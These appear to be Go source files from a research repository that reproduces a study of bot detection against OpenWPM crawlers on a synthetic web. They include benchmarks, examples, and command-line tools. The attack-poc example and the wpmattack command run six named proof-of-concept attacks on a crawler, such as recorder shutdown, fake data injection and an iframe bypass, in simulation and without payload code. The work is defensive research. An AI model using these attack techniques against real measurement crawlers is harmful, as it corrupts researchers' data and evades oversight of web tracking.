	"gullible/internal/minjs"
	"gullible/internal/openwpm"
	"gullible/internal/telemetry"
	"gullible/internal/websim"
)

var (
	scanOnce sync.Once
	scanRes  *experiments.ScanResult

	cmpOnce sync.Once
	cmpRes  *experiments.CompareResult
)

func scanFixture(b *testing.B) *experiments.ScanResult {
	b.Helper()
	scanOnce.Do(func() {
		world := websim.New(websim.Options{Seed: 42, NumSites: 600})
		scanRes = experiments.RunScan(world, 600, 3, nil)
	})
	return scanRes
}

func compareFixture(b *testing.B) *experiments.CompareResult {
	b.Helper()
	cmpOnce.Do(func() {
		world := websim.New(websim.Options{Seed: 42, NumSites: 2500})
		sites := experiments.DetectorSiteSample(world, 60)
		cmpRes = experiments.RunComparison(world, sites, 3, nil)
	})
	return cmpRes
}

// ---- crawl harnesses ------------------------------------------------------

// BenchmarkScanCrawl measures the Sec. 4 crawl per site (front + subpages,
// vanilla instrumentation, static corpus collection).
func BenchmarkScanCrawl(b *testing.B) {
	world := websim.New(websim.Options{Seed: 9, NumSites: 100000})
	tm := openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: world,
		DwellSeconds: 60, JSInstrument: true, HTTPInstrument: true,
		CookieInstrument: true, HTTPFilterJSOnly: true, HoneyProps: 4, MaxSubpages: 3,
	})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		tm.VisitSite(websim.SiteURL(i%100000 + 1))
	}
}

// BenchmarkScanCrawlTelemetry is BenchmarkScanCrawl with full telemetry
// (metrics, spans, no log sink) enabled; the delta between the two is the
// instrumentation overhead budget asserted in BENCH_telemetry.json.
func BenchmarkScanCrawlTelemetry(b *testing.B) {
	world := websim.New(websim.Options{Seed: 9, NumSites: 100000})
	tm := openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: world,
		DwellSeconds: 60, JSInstrument: true, HTTPInstrument: true,
		CookieInstrument: true, HTTPFilterJSOnly: true, HoneyProps: 4, MaxSubpages: 3,
		Telemetry: telemetry.New(),
	})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		tm.VisitSite(websim.SiteURL(i%100000 + 1))
	}
}

// BenchmarkScanCrawlTraceDisabled is BenchmarkScanCrawlTelemetry with the
// flight recorder detached (metrics stay on, Spans nil): the tracing-off
// baseline that BENCH_trace.json prices span recording against.
func BenchmarkScanCrawlTraceDisabled(b *testing.B) {
	world := websim.New(websim.Options{Seed: 9, NumSites: 100000})
	tm := openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: world,
		DwellSeconds: 60, JSInstrument: true, HTTPInstrument: true,
		CookieInstrument: true, HTTPFilterJSOnly: true, HoneyProps: 4, MaxSubpages: 3,
		Telemetry: &telemetry.Telemetry{Metrics: telemetry.NewRegistry()},
	})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		tm.VisitSite(websim.SiteURL(i%100000 + 1))
	}
}

// BenchmarkScanCrawlTraceStreamed is BenchmarkScanCrawlTelemetry with a live
// span tap attached — the wpmd SSE path, where every recorded span event is
// also handed to a subscriber callback.
func BenchmarkScanCrawlTraceStreamed(b *testing.B) {
	world := websim.New(websim.Options{Seed: 9, NumSites: 100000})
	tel := telemetry.New()
	var streamed int64
	tel.Spans.SetTap(func(telemetry.SpanEvent) { streamed++ })
	tm := openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: world,
		DwellSeconds: 60, JSInstrument: true, HTTPInstrument: true,
		CookieInstrument: true, HTTPFilterJSOnly: true, HoneyProps: 4, MaxSubpages: 3,
		Telemetry: tel,
	})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		tm.VisitSite(websim.SiteURL(i%100000 + 1))
	}
	if streamed == 0 {
		b.Fatal("span tap saw no events")
	}
}

// BenchmarkScanWorkers measures whole-scan throughput (crawl + analysis) at
// several sharding widths; scripts/bench_scan.sh renders the sites/s metric
// into BENCH_scan.json. On a single-core runner the worker counts tie —
// sharding buys wall-clock only when GOMAXPROCS grants real parallelism.
func BenchmarkScanWorkers(b *testing.B) {
	const sites = 500
	counts := []int{1, 4}
	if n := runtime.GOMAXPROCS(0); n != 1 && n != 4 {
		counts = append(counts, n)
	}
	for _, w := range counts {
		b.Run(fmt.Sprintf("workers=%d", w), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				world := websim.New(websim.Options{Seed: 42, NumSites: sites})
				r, err := experiments.RunScanObserved(world, sites,
					experiments.ScanOptions{MaxSubpages: 3, Workers: w}, nil)
				if err != nil {
					b.Fatal(err)
				}
				if r.Workers != w {
					b.Fatalf("scheduler used %d workers, want %d", r.Workers, w)
				}
			}
			b.ReportMetric(float64(sites)*float64(b.N)/b.Elapsed().Seconds(), "sites/s")
		})
	}
}

// BenchmarkComparisonCrawl measures one paired WPM/WPM_hide site visit.
func BenchmarkComparisonCrawl(b *testing.B) {
	world := websim.New(websim.Options{Seed: 9, NumSites: 100000})
	sites := experiments.DetectorSiteSample(world, 200)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		experiments.RunComparison(world, sites[i%len(sites):i%len(sites)+1], 1, nil)
	}
}

// ---- literature tables ------------------------------------------------------

func BenchmarkTable1(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table1(); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable14(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table14(); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable15(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table15(); len(tbl.Rows) != 72 {
			b.Fatal("bad table")
		}
	}
}

// ---- fingerprint surface (Sec. 3) ------------------------------------------

func BenchmarkTable2(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table2(90); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable3(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table3(); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable4(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table4(); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkFigure2(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Figure2(); len(tbl.Rows) != 3 {
			b.Fatal("bad figure")
		}
	}
}

// ---- detector incidence (Sec. 4) ---------------------------------------------

func BenchmarkTable5(b *testing.B) {
	r := scanFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table5(r); len(tbl.Rows) != 2 {
			b.Fatal("bad table")
		}
	}
}

func BenchmarkTable6(b *testing.B) {
	r := scanFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table6(r); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable7(b *testing.B) {
	r := scanFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table7(r); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable11(b *testing.B) {
	r := scanFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table11(r); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable12(b *testing.B) {
	r := scanFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table12(r); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable13(b *testing.B) {
	r := scanFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table13(r); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkFigure3(b *testing.B) {
	r := scanFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Figure3(r); len(tbl.Rows) == 0 {
			b.Fatal("empty figure")
		}
	}
}

func BenchmarkFigure4(b *testing.B) {
	r := scanFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Figure4(r); len(tbl.Rows) == 0 {
			b.Fatal("empty figure")
		}
	}
}

func BenchmarkFigure5(b *testing.B) {
	r := scanFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Figure5(r); len(tbl.Rows) == 0 {
			b.Fatal("empty figure")
		}
	}
}

// ---- WPM vs WPM_hide (Sec. 6.3) ----------------------------------------------

func BenchmarkTable8(b *testing.B) {
	c := compareFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table8(c); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable9(b *testing.B) {
	c := compareFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table9(c); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkTable10(b *testing.B) {
	c := compareFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Table10(c); len(tbl.Rows) == 0 {
			b.Fatal("empty table")
		}
	}
}

func BenchmarkFigure6(b *testing.B) {
	c := compareFixture(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if tbl := experiments.Figure6(c); len(tbl.Rows) == 0 {
			b.Fatal("empty figure")
		}
	}
}

// ---- attacks (Sec. 5) and primitives ------------------------------------------

func BenchmarkAttackSuiteVanilla(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if rs := attacks.RunAll(attacks.VanillaVariant()); len(rs) != 6 {
			b.Fatal("bad attack suite")
		}
	}
}

// BenchmarkInterpreter measures raw minjs throughput on a small fingerprint
// -style workload.
func BenchmarkInterpreter(b *testing.B) {
	prog := minjs.MustParse(`
		var out = [];
		for (var i = 0; i < 100; i++) {
			out.push("k" + i);
		}
		var s = 0;
		for (var j = 0; j < out.length; j++) { s += out[j].length; }
		s`, "bench.js")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		it := minjs.New()
		if _, err := it.RunProgram(prog); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkRealmBuild measures building one browser object model.
func BenchmarkRealmBuild(b *testing.B) {
	cfg := jsdom.StandardConfig(jsdom.Ubuntu, jsdom.Regular, 90, 0)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		jsdom.Build(cfg, &jsdom.NopHost{}, "https://bench.test/")
	}
}
