// The attack-poc example walks through the Sec. 5 attacks one at a time
// against a vanilla OpenWPM crawler, printing the measurement damage each
// one inflicts.
package main

import (
	"fmt"

	"gullible/internal/attacks"
)

func main() {
	v := attacks.VanillaVariant()

	fmt.Println("Attack 1 — recorder shutdown via the event dispatcher (Listing 2)")
	r := attacks.RunRecorderShutdown(v)
	fmt.Printf("  %s → %v\n\n", r.Detail, r.Succeeded)

	fmt.Println("Attack 2 — fake data injection after learning the event id (Sec. 5.2)")
	r = attacks.RunFakeDataInjection(v)
	fmt.Printf("  %s → %v\n\n", r.Detail, r.Succeeded)

	fmt.Println("Attack 3 — SQL injection through forged records (Sec. 5.3; must fail)")
	r = attacks.RunSQLInjectionProbe(v)
	fmt.Printf("  %s → %v\n\n", r.Detail, r.Succeeded)

	fmt.Println("Attack 4 — CSP script-src blocks DOM-injected instrumentation (Sec. 5.1.2)")
	r = attacks.RunCSPBlocking(v)
	fmt.Printf("  %s → %v\n\n", r.Detail, r.Succeeded)

	fmt.Println("Attack 5 — unobserved channel through a fresh iframe (Listing 3)")
	r = attacks.RunIframeBypass(v)
	fmt.Printf("  %s → %v\n\n", r.Detail, r.Succeeded)

	fmt.Println("Attack 6 — silent JavaScript delivery past the JS-only filter (Listing 4)")
	r = attacks.RunSilentDelivery(v)
	fmt.Printf("  %s → %v\n\n", r.Detail, r.Succeeded)

	fmt.Println("Run cmd/wpmattack to see the same attacks fail against WPM_hide.")
}
