// The hardened-crawl example runs vanilla OpenWPM and WPM_hide side by side
// over cloaking detector sites and shows the measurement gap the paper
// quantifies in Sec. 6.3: the detectable crawler sees fewer trackers,
// fewer cookies, and extra CSP violations of its own making.
package main

import (
	"fmt"

	"gullible/internal/blocklist"
	"gullible/internal/experiments"
	"gullible/internal/httpsim"
	"gullible/internal/openwpm"
	"gullible/internal/websim"
)

func main() {
	world := websim.New(websim.Options{Seed: 42, NumSites: 3000})
	sites := experiments.DetectorSiteSample(world, 60)
	fmt.Printf("crawling %d cloaking detector sites with both variants (2 runs)...\n\n", len(sites))
	c := experiments.RunComparison(world, sites, 2, nil)

	for i, run := range c.Runs {
		wpm, hide := run.WPM, run.Hide
		wTypes, hTypes := wpm.RequestsByType(), hide.RequestsByType()
		fmt.Printf("run %d:\n", i+1)
		fmt.Printf("  total requests:        WPM %-6d WPM_hide %-6d\n", total(wTypes), total(hTypes))
		fmt.Printf("  csp_report requests:   WPM %-6d WPM_hide %-6d (instrument injection vs clean)\n",
			wTypes[httpsim.TypeCSPReport], hTypes[httpsim.TypeCSPReport])
		fmt.Printf("  cookies recorded:      WPM %-6d WPM_hide %-6d\n", len(wpm.Cookies), len(hide.Cookies))
		el := websim.EasyList()
		fmt.Printf("  ad/tracker requests:   WPM %-6d WPM_hide %-6d\n", adMatches(wpm, el), adMatches(hide, el))
	}
	fmt.Println()
	fmt.Println(experiments.Figure6(c))
	fmt.Printf("bot flags against WPM machine:      %d\n", world.FlaggedCount("wpm-machine"))
	fmt.Printf("bot flags against WPM_hide machine: %d\n", world.FlaggedCount("hide-machine"))
}

func total(m map[httpsim.ResourceType]int) int {
	n := 0
	for _, v := range m {
		n += v
	}
	return n
}

func adMatches(st *openwpm.Storage, l *blocklist.List) int {
	n := 0
	for _, r := range st.Requests {
		if l.Match(r.URL) {
			n++
		}
	}
	return n
}
