// The detector-scan example runs the Sec. 4 pipeline on a small ranked web:
// crawl, collect scripts and JS calls, then identify bot detectors with both
// static and dynamic analysis and show where they disagree.
package main

import (
	"fmt"

	"gullible/internal/experiments"
	"gullible/internal/websim"
)

func main() {
	const sites = 500
	world := websim.New(websim.Options{Seed: 7, NumSites: sites})
	fmt.Printf("scanning the top %d sites of the synthetic web...\n\n", sites)
	r := experiments.RunScan(world, sites, 3, nil)

	fmt.Println(experiments.Table5(r))
	fmt.Println(experiments.Table6(r))
	fmt.Println(experiments.Figure4(r))

	// show a handful of concrete detector sites with their methods
	fmt.Println("sample detector sites:")
	shown := 0
	for rank := 1; rank <= sites && shown < 8; rank++ {
		site := websim.SiteDomain(rank)
		s, d := r.StaticClean[site], r.DynamicClean[site]
		if !s && !d {
			continue
		}
		method := "static+dynamic"
		if !s {
			method = "dynamic only (obfuscated)"
		} else if !d {
			method = "static only (e.g. hover-gated or CSP-shielded)"
		}
		fmt.Printf("  #%-5d %-24s %s\n", rank, site, method)
		shown++
	}
}
