// The quickstart example builds a small synthetic web, crawls five sites
// with an instrumented OpenWPM client while recording an execution bundle,
// replays the bundle offline, and prints what the instruments recorded —
// the minimal end-to-end tour of the public pipeline.
//
// The -telemetry and -trace flags ("-" = stdout) dump the crawl's metrics
// snapshot and flight-recorder span trace; `make telemetry-demo` runs the
// example with both enabled.
package main

import (
	"flag"
	"fmt"
	"os"

	"gullible/internal/bundle"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/telemetry"
	"gullible/internal/websim"
)

// dump writes to path, with "-" meaning stdout.
func dump(path string, write func(f *os.File) error) {
	f := os.Stdout
	if path != "-" {
		var err error
		if f, err = os.Create(path); err != nil {
			panic(err)
		}
		defer f.Close()
	}
	if err := write(f); err != nil {
		panic(err)
	}
}

func main() {
	telemetryPath := flag.String("telemetry", "", "write the metrics snapshot as canonical JSON to this file (\"-\" = stdout)")
	tracePath := flag.String("trace", "", "write the span trace as JSON lines to this file (\"-\" = stdout)")
	flag.Parse()

	// 1. A deterministic synthetic web standing in for the Tranco list.
	world := websim.New(websim.Options{Seed: 42, NumSites: 1000})

	var tel *telemetry.Telemetry
	if *telemetryPath != "" || *tracePath != "" {
		tel = telemetry.New()
	}

	// 2. An OpenWPM-style crawl configuration: Ubuntu, regular mode,
	//    Firefox 90, all three instruments, three subpages per site.
	cfg := openwpm.CrawlConfig{
		OS:           jsdom.Ubuntu,
		Mode:         jsdom.Regular,
		Transport:    world,
		DwellSeconds: 60, // virtual seconds — free
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
		MaxSubpages: 3,
		Telemetry:   tel,
	}

	// 3. Crawl under recording: every HTTP exchange, script file, JS call
	//    and cookie is archived into a sealed execution bundle. The report
	//    accounts for every input site — completed, salvaged, failed or
	//    skipped, never silently lost.
	b, report, tm, err := bundle.RecordCrawl(cfg, websim.Tranco(5), map[string]string{"example": "quickstart"})
	if err != nil {
		panic(err)
	}
	fmt.Print(report.String())
	fmt.Println(b.Stats())

	// 4. Replay the crawl offline from the bundle — no live web needed —
	//    and check the replayed instruments saw the identical JS activity.
	_, tm2, _ := bundle.ReplayCrawl(b, bundle.MissFail, nil)
	replayed := tm2.Storage.JSCallsBySymbol()
	for sym, n := range tm.Storage.JSCallsBySymbol() {
		if replayed[sym] != n {
			panic(fmt.Sprintf("replay diverged: %s recorded %d times live, %d on replay", sym, n, replayed[sym]))
		}
	}
	fmt.Printf("offline replay reproduced all %d JS-call symbols exactly\n", len(replayed))

	// 4. What the instruments saw.
	st := tm.Storage
	fmt.Printf("\nHTTP requests recorded: %d\n", len(st.Requests))
	for rt, n := range st.RequestsByType() {
		fmt.Printf("  %-16s %d\n", rt, n)
	}
	fmt.Printf("cookies recorded: %d\n", len(st.Cookies))
	fmt.Printf("JavaScript calls recorded: %d\n", len(st.JSCalls))
	top := st.JSCallsBySymbol()
	shown := 0
	for _, sym := range []string{"Navigator.userAgent", "Navigator.webdriver", "Screen.width", "HTMLCanvasElement.getContext"} {
		if top[sym] > 0 {
			fmt.Printf("  %-30s %d\n", sym, top[sym])
			shown++
		}
	}
	fmt.Printf("unique script files stored: %d\n", len(st.ScriptFiles))
	fmt.Printf("\nsites that flagged this client as a bot: %d\n", world.FlaggedCount("openwpm-client"))

	// 5. What the telemetry layer saw, if it was on: the metrics snapshot is
	//    canonical JSON (byte-identical across identical runs), the trace is
	//    one JSON line per span begin/end over virtual time.
	if *telemetryPath != "" {
		dump(*telemetryPath, func(f *os.File) error {
			data, err := tel.Snapshot().CanonicalJSON()
			if err != nil {
				return err
			}
			_, err = f.Write(append(data, '\n'))
			return err
		})
	}
	if *tracePath != "" {
		dump(*tracePath, func(f *os.File) error {
			return telemetry.WriteTrace(f, tel.Spans.Events())
		})
	}
}
