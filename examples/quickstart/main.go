// The quickstart example builds a small synthetic web, crawls five sites
// with an instrumented OpenWPM client, and prints what the instruments
// recorded — the minimal end-to-end tour of the public pipeline.
package main

import (
	"fmt"

	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/websim"
)

func main() {
	// 1. A deterministic synthetic web standing in for the Tranco list.
	world := websim.New(websim.Options{Seed: 42, NumSites: 1000})

	// 2. An OpenWPM-style task manager: Ubuntu, regular mode, Firefox 90,
	//    all three instruments, three subpages per site.
	tm := openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS:           jsdom.Ubuntu,
		Mode:         jsdom.Regular,
		Transport:    world,
		DwellSeconds: 60, // virtual seconds — free
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
		MaxSubpages: 3,
	})

	// 3. Crawl. The report accounts for every input site — completed,
	//    salvaged, failed or skipped, never silently lost.
	report := tm.Crawl(websim.Tranco(5))
	fmt.Print(report.String())

	// 4. What the instruments saw.
	st := tm.Storage
	fmt.Printf("\nHTTP requests recorded: %d\n", len(st.Requests))
	for rt, n := range st.RequestsByType() {
		fmt.Printf("  %-16s %d\n", rt, n)
	}
	fmt.Printf("cookies recorded: %d\n", len(st.Cookies))
	fmt.Printf("JavaScript calls recorded: %d\n", len(st.JSCalls))
	top := st.JSCallsBySymbol()
	shown := 0
	for _, sym := range []string{"Navigator.userAgent", "Navigator.webdriver", "Screen.width", "HTMLCanvasElement.getContext"} {
		if top[sym] > 0 {
			fmt.Printf("  %-30s %d\n", sym, top[sym])
			shown++
		}
	}
	fmt.Printf("unique script files stored: %d\n", len(st.ScriptFiles))
	fmt.Printf("\nsites that flagged this client as a bot: %d\n", world.FlaggedCount("openwpm-client"))
}
