// The serve-web example exposes the synthetic web over a real TCP socket
// via the httpsim net/http bridge, then crawls it through genuine network
// I/O — demonstrating that the simulated browser is transport-agnostic.
package main

import (
	"fmt"
	"log"
	"net"
	"net/http"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/websim"
)

func main() {
	world := websim.New(websim.Options{Seed: 42, NumSites: 200})

	// serve the world on a real socket
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	srv := &http.Server{Handler: httpsim.Handler{RT: world}}
	go srv.Serve(ln)
	endpoint := fmt.Sprintf("http://%s/", ln.Addr())
	fmt.Printf("synthetic web served at %s\n", endpoint)

	// crawl it over the wire
	tm := openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport:    &httpsim.NetTransport{Endpoint: endpoint},
		DwellSeconds: 10,
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
	})
	for _, u := range websim.Tranco(5) {
		sv, err := tm.VisitSite(u)
		if err != nil {
			fmt.Printf("  %s: %v\n", u, err)
			continue
		}
		fmt.Printf("  crawled %s over TCP\n", sv.Front.FinalURL)
	}
	fmt.Printf("requests recorded through the socket: %d\n", len(tm.Storage.Requests))
	fmt.Printf("JS calls recorded: %d\n", len(tm.Storage.JSCalls))
	srv.Close()
}
