// Command wpmcompare reproduces the Sec. 6.3 evaluation: vanilla OpenWPM
// (WPM) and the hardened WPM_hide crawl the detector-site sample in parallel
// on separate client identities, three times. It prints Tables 8–10 and
// Figure 6.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"gullible/internal/experiments"
	"gullible/internal/websim"
)

func main() {
	worldSites := flag.Int("world", 100000, "size of the ranked web")
	sample := flag.Int("sample", 1487, "detector sites to compare on (paper: 1,487)")
	runs := flag.Int("runs", 3, "repetitions")
	seed := flag.Int64("seed", 42, "world seed")
	flag.Parse()

	world := websim.New(websim.Options{Seed: *seed, NumSites: *worldSites})
	sites := experiments.DetectorSiteSample(world, *sample)
	fmt.Fprintf(os.Stderr, "comparing on %d detector sites × %d runs × 2 variants\n", len(sites), *runs)
	start := time.Now()
	c := experiments.RunComparison(world, sites, *runs, func(run, done, total int) {
		fmt.Fprintf(os.Stderr, "  run %d: %d/%d sites (%.0fs)\n", run, done, total, time.Since(start).Seconds())
	})
	fmt.Fprintf(os.Stderr, "comparison finished in %s\n\n", time.Since(start).Round(time.Second))

	fmt.Println(experiments.Table8(c))
	fmt.Println(experiments.Table9(c))
	fmt.Println(experiments.Table10(c))
	fmt.Println(experiments.Figure6(c))
}
