// Command wpmattack runs the Sec. 5 proof-of-concept attacks against both
// crawler variants and prints which succeed where.
package main

import (
	"fmt"

	"gullible/internal/attacks"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/stealth"
)

func main() {
	variants := []attacks.Variant{
		attacks.VanillaVariant(),
		{
			Name: "WPM_hide (hardened)",
			NewTM: func(tr httpsim.RoundTripper) *openwpm.TaskManager {
				return openwpm.NewTaskManager(openwpm.CrawlConfig{
					OS: jsdom.Ubuntu, Mode: jsdom.Regular,
					Transport: tr, DwellSeconds: 2,
					HTTPInstrument: true, CookieInstrument: true,
					Stealth: stealth.New(),
				})
			},
		},
	}
	for _, v := range variants {
		fmt.Printf("=== %s ===\n", v.Name)
		for _, r := range attacks.RunAll(v) {
			verdict := "defended"
			if r.Succeeded {
				verdict = "ATTACK SUCCEEDED"
			}
			fmt.Printf("  %-42s %-18s %s\n", r.Attack, verdict, r.Detail)
		}
		fmt.Println()
	}
}
