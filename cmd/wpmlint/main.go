// Command wpmlint enforces the repo's reliability invariants over the
// crawl-path packages: the determinism family (wall clocks, unseeded
// randomness, map-order serialisation, unguarded telemetry, dropped Close
// errors, untimed servers, unpaired spans) and the concurrency family
// (goroutine leaks, ignored contexts, inconsistent locking, swallowed errors,
// blocking fan-out sends).
//
// Usage:
//
//	wpmlint ./internal/...
//	wpmlint -rules wallclock,randseed ./internal/openwpm
//	wpmlint -format sarif ./internal/... > findings.sarif
//	wpmlint -baseline .wpmlint-baseline.json ./internal/...
//	wpmlint -fix ./internal/...
//
// Exit codes: 0 clean, 1 findings, 2 usage error, 3 load failure (a package
// that cannot be loaded is an error, never a silent clean run). Pattern
// arguments ending in /... walk recursively but skip testdata trees; naming a
// testdata directory explicitly lints it (the fixture self-test relies on
// this). All logic lives in internal/lint.Main so the test suite drives the
// exact CLI surface.
package main

import (
	"os"

	"gullible/internal/lint"
)

func main() {
	os.Exit(lint.Main(os.Args[1:], os.Stdout, os.Stderr))
}
