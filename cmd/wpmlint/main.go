// Command wpmlint enforces the repo's determinism invariants over the
// crawl-path packages: no wall-clock reads, no unseeded math/rand, no
// serialising map iteration in canonical encoders, and no label-building
// telemetry events outside an Enabled() guard.
//
// Usage:
//
//	wpmlint ./internal/...
//	wpmlint -rules wallclock,randseed ./internal/openwpm
//
// Exits 1 when any finding is reported, so it slots into scripts/verify.sh
// alongside vet and the test suite. Pattern arguments ending in /... walk
// recursively but skip testdata trees; naming a testdata directory
// explicitly lints it (the fixture self-test relies on this).
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"gullible/internal/lint"
)

func main() {
	rules := flag.String("rules", "", "comma-separated subset of rules (default: all: "+strings.Join(lint.AllRules, ",")+")")
	tests := flag.Bool("tests", false, "also lint _test.go files")
	flag.Parse()
	args := flag.Args()
	if len(args) == 0 {
		args = []string{"./internal/..."}
	}

	opts := lint.Options{IncludeTests: *tests}
	if *rules != "" {
		opts.Rules = strings.Split(*rules, ",")
		known := map[string]bool{}
		for _, r := range lint.AllRules {
			known[r] = true
		}
		for _, r := range opts.Rules {
			if !known[r] {
				fmt.Fprintf(os.Stderr, "wpmlint: unknown rule %q (have %s)\n", r, strings.Join(lint.AllRules, ", "))
				os.Exit(2)
			}
		}
	}

	dirs, err := lint.ExpandDirs(args)
	if err != nil {
		fmt.Fprintf(os.Stderr, "wpmlint: %v\n", err)
		os.Exit(2)
	}
	findings, err := lint.LintDirs(dirs, opts)
	if err != nil {
		fmt.Fprintf(os.Stderr, "wpmlint: %v\n", err)
		os.Exit(2)
	}
	for _, f := range findings {
		fmt.Println(f)
	}
	if len(findings) > 0 {
		fmt.Fprintf(os.Stderr, "wpmlint: %d finding(s)\n", len(findings))
		os.Exit(1)
	}
}
