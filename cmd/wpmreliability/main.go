// Command wpmreliability runs the fault-injection reliability experiment:
// the same ranked prefix of the synthetic web is crawled twice under an
// identical seeded fault stream — once with the blind pre-hardening retry
// loop, once with the hardened pipeline (watchdog, error taxonomy, backoff,
// circuit breaker, partial-result salvage) — and the completion accounting
// of both runs is compared.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"gullible/internal/experiments"
	"gullible/internal/faults"
)

func main() {
	sites := flag.Int("sites", 500, "number of ranked sites to crawl")
	seed := flag.Int64("seed", 42, "world seed")
	faultSeed := flag.Int64("fault-seed", 1, "fault injector seed")
	heavy := flag.Bool("heavy", false, "use the heavy (4x) fault profile")
	flag.Parse()

	profile := faults.DefaultProfile()
	if *heavy {
		profile = faults.HeavyProfile()
	}

	start := time.Now()
	fmt.Fprintf(os.Stderr, "crawling %d sites twice (vanilla + hardened) under fault seed %d...\n", *sites, *faultSeed)
	r := experiments.RunReliability(*seed, *faultSeed, experiments.ReliabilityOptions{
		NumSites: *sites,
		Profile:  profile,
	})
	fmt.Fprintf(os.Stderr, "done in %s\n\n", time.Since(start).Round(time.Second))

	fmt.Println(experiments.TableReliability(r))
	fmt.Println("vanilla " + r.Vanilla.String())
	fmt.Println("hardened " + r.Hardened.String())
}
