// Command wpmreliability runs the fault-injection reliability experiment:
// the same ranked prefix of the synthetic web is crawled twice under an
// identical seeded fault stream — once with the blind pre-hardening retry
// loop, once with the hardened pipeline (watchdog, error taxonomy, backoff,
// circuit breaker, partial-result salvage) — and the completion accounting
// of both runs is compared.
//
// The -telemetry flag instruments both runs (each with its own registry) and
// writes their metrics snapshots as one JSON document keyed by pipeline;
// -trace writes both span traces as JSON lines, each event wrapped with a
// "run" tag. Either flag enables instrumentation.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"time"

	"gullible/internal/daemon/signal"
	"gullible/internal/experiments"
	"gullible/internal/faults"
	"gullible/internal/telemetry"
)

// writeSnapshots writes the vanilla and hardened metrics snapshots as a
// single canonical JSON document.
func writeSnapshots(r *experiments.ReliabilityResult, path string) error {
	doc := map[string]*telemetry.Snapshot{
		"vanilla":  r.Vanilla.Metrics,
		"hardened": r.Hardened.Metrics,
	}
	data, err := json.MarshalIndent(doc, "", " ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

// writeTraces writes both runs' span events as JSON lines, tagging each line
// with the pipeline it came from.
func writeTraces(r *experiments.ReliabilityResult, path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	enc := json.NewEncoder(f)
